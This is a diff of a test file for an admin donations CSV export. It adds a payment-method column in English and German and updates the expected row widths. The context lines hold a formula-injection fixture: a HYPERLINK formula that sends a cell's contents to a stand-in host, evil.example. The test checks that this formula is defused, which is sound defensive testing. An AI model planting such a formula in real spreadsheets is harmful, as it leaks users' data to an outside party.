@@ -262,9 +262,10 @@ describe('admin donations', () => {
       'Dispute status',
       'Credited (USD)',
       'Stripe payment',
+      'Method',
     ]);
     assert.equal(rows.length, 7, 'header and six donations');
-    assert.ok(rows.every((r) => r.length === 16), 'sixteen cells in every row');
+    assert.ok(rows.every((r) => r.length === 17), 'seventeen cells in every row');
     const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
     assert.ok(evil, 'the e-mail starting with + is defused');
     assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
@@ -307,9 +308,10 @@ describe('admin donations', () => {
       'Status der Beanstandung',
       'Gutgeschrieben (USD)',
       'Stripe-Zahlung',
+      'Zahlungsart',
     ]);
     assert.equal(rows.length, 7);
-    assert.ok(rows.every((r) => r.length === 16), 'sixteen cells in every row, split at the semicolons');
+    assert.ok(rows.every((r) => r.length === 17), 'seventeen cells in every row, split at the semicolons');
     const anna = rows.find((r) => r[3] === 'anna@example.org')!;
     assert.equal(anna[0], '10.03.2025 10:00');
     assert.equal(anna[4], titleDe, 'the German title of the project');
